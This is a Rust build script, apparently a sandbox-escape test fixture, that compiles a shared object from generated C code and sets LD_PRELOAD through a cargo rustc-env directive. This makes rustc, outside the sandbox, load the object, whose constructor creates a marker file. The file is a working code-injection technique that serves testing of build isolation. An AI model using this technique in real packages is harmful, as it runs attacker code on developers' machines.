// Hostile: rustc (outside the sandbox) loads a shared object from OUT_DIR through LD_PRELOAD.
use std::{env, fs, path::PathBuf, process::Command};

fn main() {
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    let marker = PathBuf::from(env::var("CARGO_MANIFEST_DIR").unwrap()).join("../ESCAPED-ld-preload");
    let source = out.join("payload.c");
    fs::write(&source, format!(
        "#include <fcntl.h>\n#include <unistd.h>\n\
         __attribute__((constructor)) static void payload(void) {{\n\
           int fd = open(\"{}\", O_WRONLY | O_CREAT, 0644); if (fd >= 0) close(fd);\n}}\n",
        marker.display())).unwrap();
    let so = out.join("payload.so");
    let status = Command::new("cc").args(["-shared", "-fPIC", "-o"]).arg(&so).arg(&source).status().unwrap();
    assert!(status.success(), "cc failed");
    println!("cargo:rustc-env=LD_PRELOAD={}", so.display());
}
